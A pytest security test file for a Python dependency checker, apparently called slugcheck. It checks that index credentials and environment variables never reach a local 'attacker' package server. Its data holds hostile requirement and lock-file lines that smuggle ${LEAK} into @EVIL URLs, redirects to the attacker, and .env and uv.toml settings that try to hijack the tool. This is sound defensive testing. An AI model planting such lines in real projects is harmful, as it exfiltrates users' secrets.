"""Passwords and variables of the user stay with the servers that the user names.

Two private indexes with different passwords, and an attacker's that the checked files name. All of
them are real servers on the loopback, which record every Authorization header.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest

from slugcheck.packages.resolve.uv import find_uv, project_environment
from tests.support.commands import Done, slugcheck
from tests.support.projects import pipenv_entry, pipenv_project, poetry_package, poetry_project
from tests.support.server import PackageServer, Quirk
from tests.support.wheels import Archive

ONE, TWO = ("alice", "first-pa55word"), ("bob", "second-pa55word")
LEAK = "l3ak-of-a-variable"  # the value that must go nowhere


@dataclass(frozen=True)
class Place:
    """Servers, and a folder to check. ``one`` and ``two`` are the user's, with passwords."""

    one: PackageServer
    two: PackageServer
    attacker: PackageServer
    folder: Path
    evil: Archive

    def write(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.write_text(text.replace("@EVIL", self.attacker.url))
        return path

    def check_nothing_leaked(self, done: Done) -> None:
        assert [hit.authorization for hit in self.attacker.hits if hit.authorization] == []
        for server, own in ((self.one, ONE), (self.two, TWO)):
            token = "Basic " + base64.b64encode(":".join(own).encode()).decode()
            assert {hit.authorization for hit in server.hits} <= {None, token}
        said = done.out + done.err
        for text in (ONE[1], TWO[1], LEAK, LEAK.upper(), "Traceback"):
            assert text not in said, said
            assert not [hit for hit in self.attacker.hits if text in hit.path]


@pytest.fixture
def place(tmp_path: Path, private_caches: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Place]:
    """One index with its password in a URL of the environment, another by UV_INDEX_TWO_*."""
    with ExitStack() as stack:
        one, two, attacker = (
            stack.enter_context(PackageServer(auth=auth)) for auth in (ONE, TWO, None)
        )
        one.add_wheel("from-one", "1.0", {"a.py": "1"})
        two.add_wheel("from-two", "1.0", {"a.py": "1"})
        evil = attacker.add_wheel("evil", "1.0", {"a.py": "1"})
        monkeypatch.setenv("PIP_EXTRA_INDEX_URL", one.index_url_with_credentials)
        monkeypatch.setenv("UV_INDEX", f"two={two.index_url}")
        for name, (user, password) in {"ONE": ONE, "TWO": TWO}.items():
            monkeypatch.setenv(f"UV_INDEX_{name}_USERNAME", user)
            monkeypatch.setenv(f"UV_INDEX_{name}_PASSWORD", password)
        monkeypatch.setenv("UV_DEFAULT_INDEX", attacker.index_url)
        monkeypatch.setenv("LEAK", LEAK)
        folder = tmp_path / "checked"
        folder.mkdir()
        monkeypatch.chdir(tmp_path)
        yield Place(one, two, attacker, folder, evil)


def check(path: Path, *more: object) -> Done:
    return slugcheck(path, "--python", "3.12", "--format", "json", *more)


# --------------------------------------------------------------------------- honest users


def test_each_private_index_gets_its_own_password(place: Place) -> None:
    done = check(place.write("requirements.txt", "from-one\nfrom-two\nevil\n"))
    assert done.code == 0, done.err
    place.check_nothing_leaked(done)
    assert [hit.authorized for hit in place.one.hits_of("from_one-1.0-py3-none-any.whl")] == [True]
    assert [hit.authorized for hit in place.two.hits_of("from_two-1.0-py3-none-any.whl")] == [True]
    assert place.attacker.hits


def test_the_command_line_and_netrc_give_theirs(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("PIP_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX"):
        monkeypatch.delenv(name)
    netrc = place.write("netrc", f"machine localhost login {ONE[0]} password {ONE[1]}\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    with PackageServer(auth=ONE, host="localhost") as named:
        named.add_wheel("from-netrc", "1.0", {"a.py": "1"})
        path = place.write("requirements.txt", "from-two\nfrom-netrc\n")
        mine = ("--extra-index-url", named.index_url)
        done = check(path, "--index-url", place.two.index_url_with_credentials, *mine)
    assert done.code == 0, done.err
    place.check_nothing_leaked(done)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url @OTHER/simple/\nx",
        "--extra-index-url @OTHER/simple/\nx",
        "--index-url HTTP:@HOST/simple/\nx",
        "x @ @OTHER/files/x-1.0-py3-none-any.whl",
    ],
)
def test_netrc_is_not_for_another_port_of_the_host(
    place: Place, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    for name in ("PIP_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX"):
        monkeypatch.delenv(name)
    netrc = place.write("netrc", f"machine localhost login {ONE[0]} password {ONE[1]}\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    with PackageServer(auth=ONE, host="localhost") as other:
        other.add_wheel("x", "1.0", {"a.py": "1"})
        url = other.index_url.removesuffix("/simple/")
        text = line.replace("@OTHER", url).replace("@HOST", url.removeprefix("http:"))
        done = check(place.write("requirements.txt", text + "\n"))
        assert other.hits
        assert not [hit for hit in other.hits if hit.authorization]
    assert done.code == 3


def test_a_variable_in_an_index_url_of_the_command_line_is_for_that_url(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PIP_EXTRA_INDEX_URL")
    monkeypatch.setenv("PASSWORD_ONE", ONE[1])
    url = place.one.index_url.replace("://", "://alice:${PASSWORD_ONE}@")
    done = check(place.write("requirements.txt", "from-one\n"), "--extra-index-url", url)
    assert done.code == 0, done.err
    place.check_nothing_leaked(done)
    path = place.write("requirements.txt", "--find-links @EVIL/${PASSWORD_ONE}/\nfrom-one\n")
    done = check(path, "--extra-index-url", url)
    assert done.code == 2
    assert "requirements.txt:1" in done.err
    assert "uses ${PASSWORD_ONE}; allow it with --env PASSWORD_ONE" in done.err
    place.check_nothing_leaked(done)
    monkeypatch.delenv("PASSWORD_ONE")
    done = check(path, "--extra-index-url", url)
    assert (done.code, "uses ${PASSWORD_ONE}, which is not set" in done.err) == (2, True)


def test_an_allowed_variable_arrives_and_is_shown_nowhere(place: Place, tmp_path: Path) -> None:
    place.attacker.add_wheel(LEAK, "1.0", {"a.py": "1"})
    path = place.write(
        "requirements.txt", "--extra-index-url @EVIL/simple/?${LEAK}\n${LEAK}\n-r ${LEAK}.txt\n"
    )
    place.write(f"{LEAK}.txt", "six @ @EVIL/${LEAK}/six-1.0-py3-none-any.whl\nevil\n")
    wanted = [arg for name in ("a.md", "a.json", "a.sarif", "a.xml") for arg in ("-o", name)]
    done = slugcheck(path, "--python", "3.12", "--env", "LEAK", *wanted)
    assert [hit for hit in place.attacker.hits if LEAK in hit.path]
    texts = [(tmp_path / name).read_text() for name in wanted if name != "-o"]
    assert json.loads(texts[1])["unsized"]
    for text in (*texts, done.out, done.err):
        assert LEAK not in text
        assert text != ""


# --------------------------------------------------------------------------- the attacker's index

FILES: dict[str, Callable[[Place], Path]] = {
    "extra index": lambda p: p.write(
        "requirements.txt", "--extra-index-url @EVIL/simple/\nevil\nfrom-one\nfrom-two\n"
    ),
    "index": lambda p: p.write("requirements.txt", "-i @EVIL/simple/\nevil\nfrom-one\nfrom-two\n"),
    "index of another name": lambda p: p.write(
        "requirements.txt",
        f"-i {p.attacker.url.replace('127.0.0.1', 'localhost')}/simple/\nevil\nfrom-one\n",
    ),
    "find-links": lambda p: p.write(
        "requirements.txt", "-f @EVIL/simple/evil/\nevil\nfrom-one\nfrom-two\n"
    ),
    "direct URL": lambda p: p.write(
        "requirements.txt", f"evil @ @EVIL/files/{p.evil.filename}\nfrom-one\nfrom-two\n"
    ),
    "same host, other scheme": lambda p: p.write(
        "requirements.txt", f"evil @ https://{p.one.netloc}/files/{p.evil.filename}\nfrom-two\n"
    ),
    "include from the network": lambda p: p.write("requirements.txt", "-r @EVIL/simple/evil/\n"),
    "pylock": lambda p: p.write(
        "pylock.toml",
        'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "evil"\nversion = "1.0"\n'
        f'[[packages.wheels]]\nname = "{p.evil.filename}"\n'
        f'url = "@EVIL/files/{p.evil.filename}"\nhashes = {{sha256 = "{p.evil.sha256}"}}\n',
    ),
    "poetry.lock": lambda p: poetry_project(
        p.folder,
        [
            poetry_package(
                "evil", "1.0", [p.evil],
                below=f'[package.source]\ntype = "legacy"\nurl = "{p.attacker.index_url}"\n'
                'reference = "two"\n',
            )
        ],
    ),
    "Pipfile.lock": lambda p: pipenv_project(
        p.folder, p.attacker.index_url, {"evil": pipenv_entry("1.0", [p.evil])}
    ),
}  # fmt: skip


def _included(place: Place, how: str) -> Path:
    place.write("more.txt", "--extra-index-url @EVIL/simple/\nevil\n")
    return place.write("requirements.txt", f"{how} more.txt\nevil\nfrom-one\nfrom-two\n")


FILES["included file"] = lambda p: _included(p, "-r")
FILES["constraints"] = lambda p: _included(p, "-c")


@pytest.mark.parametrize("kind", ["extra index", "find-links", "direct URL", "poetry.lock"])
def test_no_credential_reaches_an_index_that_asks_for_one(place: Place, kind: str) -> None:
    path = FILES[kind](place)
    place.attacker.auth = ("nobody", "nothing")
    place.check_nothing_leaked(check(path))
    assert place.attacker.hits


@pytest.mark.parametrize("kind", FILES)
def test_no_credential_reaches_an_index_that_a_file_names(place: Place, kind: str) -> None:
    done = check(FILES[kind](place))
    place.check_nothing_leaked(done)
    if kind not in ("same host, other scheme", "include from the network"):
        assert done.code == 0, done.err
        assert place.attacker.hits


@pytest.mark.parametrize("to", ["page", "file"])
def test_no_credential_follows_a_redirect_from_a_private_index(place: Place, to: str) -> None:
    place.one.redirect_base = place.attacker.url
    wheel = place.attacker.add_wheel("from-one", "1.0", {"a.py": "1"})
    place.one.set_quirk("from-one" if to == "page" else wheel.filename, Quirk.REDIRECT)
    done = check(place.write("requirements.txt", "from-one\n"))
    assert done.code == 0, done.err
    assert [hit for hit in place.attacker.hits if hit.path.startswith("/moved/")]
    place.check_nothing_leaked(done)


def test_a_file_does_not_weaken_the_way_to_a_private_index(place: Place) -> None:
    path = place.write("requirements.txt", "--trusted-host 127.0.0.1\n-f @EVIL\nfrom-one\n")
    from slugcheck.model.options import Options
    from slugcheck.packages.requirements.indexes import read_requirements

    assert read_requirements(Options(path=path)).options.trusted_hosts == ()


@pytest.mark.parametrize("command", ["why", "compare", "against", "audit", "init"])
def test_every_command_keeps_credentials_where_they_belong(place: Place, command: str) -> None:
    path = place.write(
        "requirements.txt", "--extra-index-url @EVIL/simple/\nevil\nfrom-one\nfrom-two\n"
    )
    base = place.write("base.txt", "-i @EVIL/simple/\nevil\nfrom-one\n")
    target = ("--python", "3.12")
    arguments: dict[str, tuple[object, ...]] = {
        "why": ("why", "evil", path, *target),
        "compare": ("compare", path, base, *target),
        "against": ("check", path, "--against", base, *target),
        "audit": ("check", path, "--audit", "--audit-url", f"{place.attacker.url}/v1", *target),
        "init": ("init", path, *target),
    }
    done = slugcheck(*arguments[command])
    assert done.code in (0, 3), done.err
    assert place.attacker.hits
    place.check_nothing_leaked(done)


# --------------------------------------------------------------------------- uv projects


def _locked(place: Place, more: str = "", own: str = "") -> Path:
    """Write a project whose index is the attacker's, lock it, and write ``more`` into it then."""
    text = (
        '[project]\nname = "demo"\nversion = "0.1"\nrequires-python = ">=3.10"\n'
        'dependencies = ["evil"]\n'
    )
    index = '[[tool.uv.index]]\nname = "two"\nurl = "@EVIL/simple/"\ndefault = true\n'
    path = place.write("pyproject.toml", text + index)
    command = [find_uv(), "lock", "--quiet", "--no-build", "--python", sys.executable]
    environ = project_environment(os.environ)
    subprocess.run(command, cwd=place.folder, env=environ, check=True)
    place.write("pyproject.toml", path.read_text() + more)
    if own:
        place.write("uv.toml", own)
    place.attacker.forget_hits()
    return place.folder / "uv.lock"


def test_a_fresh_uv_lock_is_read_without_a_request_of_uv(place: Place) -> None:
    done = check(_locked(place))
    assert done.code == 0, done.err
    place.check_nothing_leaked(done)
    assert {hit.user_agent for hit in place.attacker.hits} <= {place.attacker.hits[0].user_agent}
    assert (place.attacker.hits[0].user_agent or "").startswith("slugcheck/")


@pytest.mark.parametrize(
    ("more", "own"),
    [
        ('[tool.uv]\nconstraint-dependencies = ["evil<3"]\n', ""),
        ('[[tool.uv.index]]\nname = "one"\nurl = "@EVIL/other/simple/"\n', ""),
        ("", '[[index]]\nname = "two"\nurl = "@EVIL/other/simple/"\ndefault = true\n'),
        ("", 'index-url = "@EVIL/other/simple/"\nkeyring-provider = "subprocess"\n'),
        ('[dependency-groups]\ndev = ["evil<4", "x @ @EVIL/${LEAK}/x-1.0.whl"]\n', ""),
        ('[tool.uv.sources]\nevil = {index = "two"}\n', ""),
        ('[tool.uv.sources]\nevil = {url = "@EVIL/${LEAK}/evil-1.0-py3-none-any.whl"}\n', ""),
    ],
)
def test_a_changed_uv_project_makes_uv_ask_nobody(place: Place, more: str, own: str) -> None:
    lock = _locked(place, more, own)
    place.attacker.auth = ("nobody", "nothing")
    done = check(lock)
    place.check_nothing_leaked(done)
    agents = {(hit.user_agent or "").partition("/")[0] for hit in place.attacker.hits}
    assert agents <= {"slugcheck"}


def test_settings_of_a_uv_project_steer_nothing(place: Place, tmp_path: Path) -> None:
    marked = tmp_path / "marked"
    tool = tmp_path / "tool"
    tool.write_text(f"#!/bin/sh\ntouch {marked}\nexit 1\n")
    tool.chmod(0o755)
    own = (
        f'cache-dir = "{tmp_path / "elsewhere"}"\npython-downloads = "automatic"\n'
        'required-version = ">=99"\nallow-insecure-host = ["127.0.0.1"]\npreview = true\n'
        'keyring-provider = "subprocess"\nfind-links = ["@EVIL/"]\nnative-tls = true\n'
        'python-install-mirror = "@EVIL/python"\noffline = false\nno-cache = false\n'
    )
    lock = _locked(place, own=own)
    for name in (".env", ".python-version"):
        place.write(name, f"UV_PYTHON={tool}\n")
    done = check(lock)
    assert done.code == 0, done.err
    assert not marked.exists()
    assert not (tmp_path / "elsewhere").exists()
    place.check_nothing_leaked(done)


def test_settings_above_the_temporary_folder_do_not_count(
    place: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    above = place.folder / "tmp"
    above.mkdir()
    monkeypatch.setenv("TMPDIR", str(above))
    monkeypatch.setattr("tempfile.tempdir", str(above))
    lock = _locked(place)
    own = f'cache-dir = "{tmp_path / "elsewhere"}"\nno-binary-package = ["evil"]\n'
    place.write("uv.toml", own + '[[index]]\nname = "two"\nurl = "@EVIL/other/"\n')
    path = place.write("requirements.txt", "evil\nfrom-two\n")
    for one in (path, lock):
        done = check(one)
        assert done.code == 0, done.err
        place.check_nothing_leaked(done)
    assert not [hit for hit in place.attacker.hits if hit.path.startswith("/other/")]
    assert not (tmp_path / "elsewhere").exists()


# --------------------------------------------------------------------------- variables

LINES = [
    "--index-url @EVIL/${LEAK}/simple/",
    "-i @EVIL/${LEAK}/simple/",
    "--extra-index-url @EVIL/${LEAK}/simple/",
    "--extra-index-url http://${LEAK}@host.example/simple/",
    "--extra-index-url http://u:${LEAK}@host.example/simple/",
    "--extra-index-url ${LEAK}",
    "--find-links @EVIL/${LEAK}/",
    "-f ${LEAK}",
    "--trusted-host ${LEAK}",
    "--no-binary ${LEAK}",
    "--only-binary=${LEAK}",
    "--${LEAK}",
    "--pre ${LEAK}",
    "evil @ @EVIL/${LEAK}/evil-1.0-py3-none-any.whl",
    "@EVIL/${LEAK}/evil-1.0-py3-none-any.whl",
    "evil @ @EVIL/files/evil-1.0-py3-none-any.whl?x=${LEAK}",
    "evil @ @EVIL/files/evil-1.0-py3-none-any.whl#sha256=${LEAK}",
    "evil @ ${LEAK}",
    "evil @ file:///${LEAK}",
    "file:///${LEAK}/evil-1.0-py3-none-any.whl",
    "./${LEAK}",
    "-e ${LEAK}",
    "-e ./${LEAK}",
    "evil==${LEAK}",
    "evil===${LEAK}",
    "evil[${LEAK}]",
    "evil ; python_version < '${LEAK}'",
    "evil ; extra == '${LEAK}'",
    "evil --hash=sha256:${LEAK}",
    "evil --hash=${LEAK}:00",
    "evil -C a=${LEAK}",
    "evil --${LEAK}",
    "-r ${LEAK}",
    "-r @EVIL/${LEAK}",
    "-c ${LEAK}.txt",
    "--requirement=${LEAK}",
    "${LEAK}",
    "evil${LEAK}",
    "evil \\\n ==${LEAK}",
]
SOURCES = [
    "evil @ git+http://host.example/${LEAK}.git",
    "git+http://${LEAK}@host.example/x.git#egg=x",
    "-e git+http://host.example/x.git@${LEAK}#egg=x",
]


def test_a_variable_that_is_not_allowed_is_named_and_stays(place: Place) -> None:
    for line in LINES:
        done = check(place.write("requirements.txt", f"evil\n{line}\n"))
        assert done.code in (2, 3), f"{line}: {done.out}"
        assert "uses ${LEAK}; allow it with --env LEAK" in done.err + done.out, line
        place.check_nothing_leaked(done)


def test_a_variable_where_nothing_is_asked_leaks_nothing(place: Place) -> None:
    for line in (*SOURCES, "evil # ${LEAK}", "# ${LEAK}"):
        place.check_nothing_leaked(check(place.write("requirements.txt", f"evil\n{line}\n")))


def test_a_constraint_or_included_line_is_no_way_around(place: Place) -> None:
    place.write("more.txt", "evil @ @EVIL/${LEAK}/evil-1.0-py3-none-any.whl\n")
    for how in ("-r", "-c"):
        done = check(place.write("requirements.txt", f"evil\n{how} more.txt\n"))
        assert "uses ${LEAK}; allow it with --env LEAK" in done.err + done.out
        place.check_nothing_leaked(done)


@pytest.mark.parametrize("url", ["@EVIL/${LEAK}/simple/", "@EVIL/$LEAK/", "http://u:$LEAK@x/"])
def test_sources_of_a_pipfile_take_allowed_variables_only(place: Place, url: str) -> None:
    url = url.replace("@EVIL", place.attacker.url)
    lock = pipenv_project(place.folder, url, {"evil": pipenv_entry("1.0", [place.evil])})
    done = check(lock)
    assert done.code == 2
    assert "the source 'own' uses ${LEAK}; allow it with --env LEAK" in done.err
    place.check_nothing_leaked(done)


@pytest.mark.parametrize(
    "requires",
    [
        "x @ @EVIL/${LEAK}/x-1.0-py3-none-any.whl",
        "x===${LEAK}",
        "x @ @EVIL/${UV_INDEX_TWO_PASSWORD}/x-1.0-py3-none-any.whl",
        "x @ @EVIL/${HTTPS_PROXY}/x-1.0-py3-none-any.whl",
    ],
)
def test_metadata_of_a_wheel_takes_no_variables(
    place: Place, requires: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", f"http://u:{LEAK}@127.0.0.1:9")
    line = requires.replace("@EVIL", place.attacker.url)
    place.attacker.add_wheel("worse", "1.0", {"a.py": "1"}, requires=[line])
    place.check_nothing_leaked(check(place.write("requirements.txt", "worse\n")))
    wheel = f"{place.attacker.url}/files/worse-1.0-py3-none-any.whl"
    place.check_nothing_leaked(check(place.write("requirements.txt", f"worse @ {wheel}\n")))


def test_against_follows_the_same_rule(place: Place) -> None:
    path = place.write("requirements.txt", "evil\n")
    base = place.write("base.txt", "evil\n-f @EVIL/${LEAK}/\n")
    done = check(path, "--against", base)
    assert "uses ${LEAK}; allow it with --env LEAK" in done.out
    place.check_nothing_leaked(done)


# --------------------------------------------------------------------------- malformed arguments

SECRET = "s3cret-of-an-argument"


@pytest.mark.parametrize(
    "arguments",
    [
        ("--against", f"http://u:{SECRET}@h/x"),
        ("--against", f"u:a {SECRET}@h/x"),
        ("--model", f"http://u:a/{SECRET}@h"),
        ("--model", f"s3://u:{SECRET}@h/x"),
        ("--index-url", f"https://u:{SECRET} x@h/simple"),
        ("--index-url", f"https://u:a/{SECRET}@h/simple"),
        ("--index-url", f"u:{SECRET}@h"),
        ("--extra-index-url", f"http:/u:{SECRET}@h"),
        ("--extra-index-url", f"http:\\\\u:{SECRET}@h"),
        ("--extra-index-url", f"https://[{SECRET}@h"),
        ("--find-links", f"https://u:{SECRET}@["),
        ("--find-links", f"u:{SECRET}@h/wheels"),
        ("--platform", f"https://u:{SECRET}@h"),
        ("--python", f"https://u:{SECRET}@h"),
        ("--stack", f"http%3A%2F%2Fu%3A{SECRET}%40h"),
        ("--dyno", f"http://u:#?{SECRET}@h"),
        ("--limit", f"https://u:{SECRET}@h"),
        ("--limit", f"slug=https://u:{SECRET}@h"),
        ("--config", f"https://u:{SECRET}@h"),
        ("--format", f"https://u:{SECRET}@h"),
        ("--output", f"https://u:{SECRET}@h"),
        ("--exclude-newer", f"https://u:{SECRET}@h"),
        ("--audit", "--audit-url", f"https://u:{SECRET}@["),
        ("--audit-service", f"u:a {SECRET}@h"),
        ("--env", f"TOKEN=u:{SECRET}@h"),
        (f"--https://u:{SECRET}@h",),
        (f"https://u:{SECRET}@h",),
        (f"https://h.example/x?token={SECRET}&X-Amz-Signature={SECRET}",),
    ],
)
def test_no_password_of_a_malformed_argument_is_echoed(
    place: Place, arguments: tuple[str, ...]
) -> None:
    path = place.write("requirements.txt", "evil\n")
    done = slugcheck("check", path, "--offline", *arguments)
    assert done.code in (2, 3), done.out + done.err
    assert SECRET not in done.out + done.err
    assert "Traceback" not in done.err
